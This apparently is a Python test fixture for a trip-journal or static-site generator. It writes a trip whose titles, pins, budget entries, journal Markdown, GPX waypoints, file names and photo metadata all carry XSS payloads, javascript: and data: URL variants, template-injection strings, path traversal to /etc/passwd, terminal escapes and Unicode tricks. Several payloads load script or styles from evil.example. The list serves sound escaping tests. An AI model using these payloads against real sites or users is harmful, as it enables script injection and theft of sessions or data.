"""A trip whose every text tries to become something else: markup, script, style, template, address, another line."""

import json
import subprocess
from datetime import datetime, timedelta

from trips.painted import paint

# Each calls alert(), which the browser watches, or asks a server that is not there.
SCRIPTS = [
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</textarea></style></script><script>alert(3)</script>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0c>alert(5)</script\x0c>",
    "<img src=x onerror=alert(6)>",
    "<img src='x' onerror='alert(7)'//>",
    '"><img src=x onerror="alert(8)">',
    "'><img src=x onerror='alert(9)'>",
    "`><img src=x onerror=alert`10`>",
    '" onmouseover="alert(11)" autofocus onfocus="alert(12)" x="',
    "' onmouseover='alert(13)' autofocus onfocus='alert(14)' x='",
    " onfocus=alert(15) autofocus tabindex=0 ",
    "<svg onload=alert(16)>",
    "<svg><script>alert&#40;17)</script></svg>",
    "<svg><animate onbegin=alert(18) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(19)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>alert(20)</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(21)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(22)&gt;'>",
    "<iframe src='javascript:alert(23)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(24)&lt;/script&gt;'></iframe>",
    "<object data='javascript:alert(25)'></object><embed src='javascript:alert(26)'>",
    "<details open ontoggle=alert(27)><summary>x</summary></details>",
    "<video><source onerror=alert(28)></video><audio src=x onerror=alert(29)>",
    "<input autofocus onfocus=alert(30)><select autofocus onfocus=alert(31)>",
    "<body onload=alert(32) onpageshow=alert(33)>",
    "<marquee onstart=alert(34)>x</marquee>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='//evil.example/'><form action='//evil.example/'><button autofocus>x</button></form>",
    "<style>*{background:url(//evil.example/x)}body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/y)'>x</div>",
    "<!--><img src=x onerror=alert(35)>-->",
    "<![CDATA[<script>alert(36)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(37)'?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(38)>'>",
    "<template><script>alert(39)</script></template><slot>",
    "<x onclick=alert(40) onpointerover=alert(41) contenteditable>x</x>",
    "&lt;script&gt;alert(42)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(43)&#62;",
    "&amp;lt;script&amp;gt;alert(44)",
    "\\u003cscript\\u003ealert(45)\\u003c/script\\u003e \\x3cimg src=x onerror=alert(46)\\x3e",
    "{{title}} {{{bodyHTML}}} {{&title}} {{#page}}{{/page}} {{>parts/facts}} {{=<% %>=}} {{! note }}",
    "{{constructor.constructor('alert(47)')()}} ${alert(48)} <%= alert(49) %> #{alert(50)} [[alert(51)]]",
    "]]> --> */ </svg> </a> </main> </body> </html> </head> </time> </li>",
    "x\" y='z' =`` <> / \\ & && &copy; &notanentity; &#0; &#x110000; &#xD800;",
    "\u202egnirts desrever\u202c \u2066isolated \u202dleft \u200fright\u200e \u2069\u2069\u2069 end",
    "\u202e\u202e\u202e\u2067\u2067 never closed",
    "\ufeff\u200b\u200c\u200d\u00ad\u2028\u2029 blanks \ufffe\uffff",
    "﹤script﹥alert(52)﹤/script﹥ ＜img src=x onerror=alert(53)＞",
    "Z̸̢̛̬̤͍͚̠̝͔̩̘̗͓͎̗̙̪̙̐͋̃̇͐͑̓̏̊̐̌̕͘͝a̵̧̢̛̛͕͖̠̹̖͉̘̠̰͎̲͕͈̺͆̇̀̐̆̋̒̄̎́̔̿̕͜͠͠l̶̡̢̡̧̛̛̳̪̩̭͓̬̥̯͖͕̭̑̈̃̂͒̈́̂̎̊̇̉̊͜͝͝g̶̛",
    "../../../../etc/passwd \x7f \x80 \x9b31m \x1b]0;alert\x07",
    "javascript:alert(54)",
]

# Addresses that must not be followed, in all spellings of their scheme.
ADDRESSES = [
    "javascript:alert(60)", "JaVaScRiPt:alert(61)", "java\tscript:alert(62)", "java\nscript:alert(63)", " javascript:alert(64)",
    "\x01javascript:alert(65)", "javascript&colon;alert(66)", "&#106;avascript:alert(67)", "&#x6A&#x61vascript:alert(68)", "javascript&#58alert(69)",
    "java%0ascript:alert(70)", "vbscript:msgbox(71)", "data:text/html,<script>alert(72)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCg3Myk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(74)>", "view-source:javascript:alert(75)", "feed:javascript:alert(76)", "jar:javascript:alert(77)!/",
    "//evil.example/", "\\\\evil.example\\x", "/\\evil.example/", "http:javascript:alert(78)", "https://evil.example@example.org/\"onclick=alert(79)",
    "blob:null/alert", "file:///etc/passwd", "filesystem:http://x/", "javascript://%0aalert(80)", "javascript:/*--></title></style><svg/onload=alert(81)>",
    "\u00a0javascript:alert(82)", "java\u00adscript:alert(83)", "ｊavascript:alert(84)", "tel:<script>alert(85)</script>", "?q=<script>alert(86)</script>",
    "#\"><script>alert(87)</script>", "x:y", "mailto:a@b.c?subject=<script>alert(88)</script>",
]

START = datetime(2026, 4, 1, 8, 0)


def hostile(folder):
    """Puts every text into every place where a text may stand."""
    for part in ("journal", "photos", "tracks"):
        (folder / part).mkdir(parents=True)
    write(folder / "trip.yml", trip_file())
    write(folder / "pins.yml", "".join(pin(number, text) for number, text in enumerate(SCRIPTS)) + "".join(
        f"- {{title: Link {number}, at: '46.9, 8.{number:02}', description: x, link: {quoted(address)}}}\n" for number, address in enumerate(ADDRESSES)))
    write(folder / "budget.yml", budget_file())
    for number, text in enumerate(SCRIPTS):
        write(folder / "journal" / f"{day(number)}-{number:02}.md", entry(number, text))
    write(folder / "journal" / "2026-04-01-addresses.md", "---\ntitle: Addresses\n---\n" + "\n".join(map(link, ADDRESSES)) + "\n")
    write(folder / "journal" / "2026-04-01-nul.md", "Before.\n\n\x00NUL\x00 <script\x00>alert(90)</script>\n")
    write(folder / "journal" / f"2026-04-02-{file_name(SCRIPTS[11])}.md", "A file's name.\n")
    write(folder / "tracks" / f"{file_name(SCRIPTS[6])}.gpx", track())
    photos(folder / "photos")


def quoted(text):
    """A text in double quotes, as YAML and JSON write it alike."""
    return json.dumps("".join(letter for letter in text if letter >= " " or letter in "\t\n"))


def day(number):
    return f"2026-04-{1 + number % 6:02}"


def trip_file():
    travellers = "".join(f"  - {{name: {quoted(text + str(number))}}}\n" for number, text in enumerate(SCRIPTS[:12]))
    return (f"title: {quoted(SCRIPTS[8] + SCRIPTS[0] + SCRIPTS[43])}\ndescription: {quoted(' '.join(SCRIPTS[:12]))}\nicon: {quoted(SCRIPTS[14])}\n"
            f"category: {quoted(SCRIPTS[9])}\nstart: 2026-04-01\nend: 2026-04-06\ntime zone: Europe/Zurich\n"
            f"destination: {quoted('<b>x</b>, 46.9 8.1')}\nurl: https://example.org/hostile/\ntravellers:\n{travellers}")


def pin(number, text):
    return (f"- title: {quoted(text)}\n  at: '46.{100 + number}, 8.{100 + number}'\n  time: {day(number)}\n  category: {quoted(text)}\n"
            f"  description: {quoted(text)}\n  tags: [{quoted(text)}]\n")


def budget_file():
    lines = ["total: 1000 EUR\ncategories:\n", f"  {quoted(SCRIPTS[8])}: 20\n  {quoted(SCRIPTS[43])}: 30\nexpenses:\n"]
    for number, text in enumerate(SCRIPTS):
        who = quoted(SCRIPTS[number % 12] + str(number % 12))
        category = quoted(SCRIPTS[8]) if number % 2 else "food"
        lines.append(f"  - {{date: {day(number)}, category: {category}, amount: 1.50, what: {quoted(text)}, paid by: {who}}}\n")
    return "".join(lines)


def entry(number, text):
    """A text as title, fields and body; the body as it stands, since Markdown is asked to hold it."""
    body = text.replace("\n", " ")
    return (f"---\ntitle: {quoted(text)}\ndescription: {quoted(text)}\nplace: {quoted(text)}\nkind: {quoted(text)}\ntags: [{quoted(text)}]\n"
            f"mood: {quoted(text)}\nweather: {quoted(text)}\nwho: [{quoted(text)}]\n---\nBefore. {body} After.\n\n{body}\n\n# {body}\n\n"
            f"> {body}\n\n- {body}\n\n| {body.replace('|', '')} | b |\n|---|---|\n| c | {body.replace('|', '')} |\n\n`{body}`\n\n```{body.split()[0]}\n{body}\n```\n\n"
            f"![{body}](../photos/plain.jpg \"{body.replace(chr(34), '')}\")\n\n[{body}](https://example.org/ \"{body.replace(chr(34), '')}\")\n\nNote.[^1]\n\n[^1]: {body}\n\n"
            f"[link][{number}]\n\n[{number}]: <{ADDRESSES[number % len(ADDRESSES)]}> '{body}'\n\nThe end.\n")


def link(address):
    plain = address.replace("\n", "&#10;")
    return (f"[one]({plain}) [two](<{plain}>) ![three]({plain}) <{plain}> <a href=\"{plain}\">four</a> "
            f"<img src=\"{plain}\"> {{{{< figure src=\"{plain}\" >}}}} {{% include figure image_path=\"{plain}\" %}} ![[{plain}]]\n")


def file_name(text):
    return text.replace("/", "∕").replace("\x00", "")[:80]


def xml(text):
    clean = "".join(letter for letter in text if letter >= " " and letter not in "\ufffe\uffff\x7f")
    return clean.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def track():
    points = "".join(f'<wpt lat="46.{200 + n}" lon="8.2{n:02}"><name>{xml(t)}</name><desc>{xml(t)}</desc><link href="{xml(t).replace(chr(34), "")}"/></wpt>'
                     for n, t in enumerate(SCRIPTS))
    way = "".join(f'<trkpt lat="46.{200 + n}" lon="8.2"><time>2026-04-03T08:{n:02}:00Z</time></trkpt>' for n in range(30))
    return f'<gpx xmlns="http://www.topografix.com/GPX/1/1">{points}<trk><name>{xml(SCRIPTS[8])}</name><trkseg>{way}</trkseg></trk></gpx>'


def photos(folder):
    """Pictures whose names, captions, cameras and keywords are hostile; exiftool writes what Pillow does not."""
    paint(folder / "plain.jpg", 60, 40, START)
    arguments = []
    for number, text in enumerate(SCRIPTS):
        file = folder / (f"{file_name(text)}.jpg" if number % 2 else f"p{number:02}.jpg")
        paint(file, 60, 40, START + timedelta(hours=2 * number), (46.5 + number / 100, 8.1), tint=number)
        flat = text.replace("\n", " ").replace("\r", " ").replace("\x00", "")
        arguments += [f"-{field}={flat}" for field in FIELDS] + [str(file), "-execute"]
    script = folder.parent / "exiftool.args"
    write(script, "\n".join(arguments) + "\n")
    subprocess.run(["exiftool", "-charset", "filename=utf8", "-@", script, "-common_args", "-overwrite_original", "-q", "-q"],
                   check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
    script.unlink()


FIELDS = ["EXIF:ImageDescription", "EXIF:UserComment", "EXIF:Artist", "EXIF:Copyright", "EXIF:Make", "EXIF:Model", "EXIF:XPTitle",
          "IPTC:Caption-Abstract", "IPTC:ObjectName", "IPTC:Keywords", "XMP-dc:Description", "XMP-dc:Title", "XMP-photoshop:Headline"]


def write(file, text):
    file.write_bytes(text.encode("utf-8", "surrogatepass"))
